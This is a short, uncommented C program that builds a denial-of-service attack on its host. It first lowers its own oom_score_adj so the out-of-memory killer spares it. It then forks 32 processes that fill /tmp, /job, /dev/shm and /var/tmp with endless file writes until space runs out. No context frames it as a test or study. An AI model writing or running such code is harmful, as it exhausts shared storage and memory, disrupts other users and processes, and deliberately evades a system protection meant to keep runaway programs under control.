#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static void spare_me(void) {
    static const char *const scores[] = {"-1000", "-500", "0"};
    for (int n = 0; n < 3; n++) {
        int file = open("/proc/self/oom_score_adj", O_WRONLY);
        if (file < 0) return;
        if (write(file, scores[n], strlen(scores[n])) < 0) { /* the next one may do */ }
        close(file);
    }
}

int main(void) {
    static const char *const places[] = {"/tmp", "/job", "/dev/shm", "/var/tmp"};
    static char block[1 << 16];
    spare_me();
    for (int n = 0; n < 32; n++) {
        if (fork() == 0) {
            spare_me();
            for (int place = 0; place < 4; place++) {
                char path[64];
                snprintf(path, sizeof path, "%s/fill-%d", places[place], n);
                int file = open(path, O_CREAT | O_WRONLY, 0600);
                while (file >= 0 && write(file, block, sizeof block) > 0) {}
            }
            _exit(0);
        }
    }
    while (wait(NULL) > 0) {}
    return 0;
}
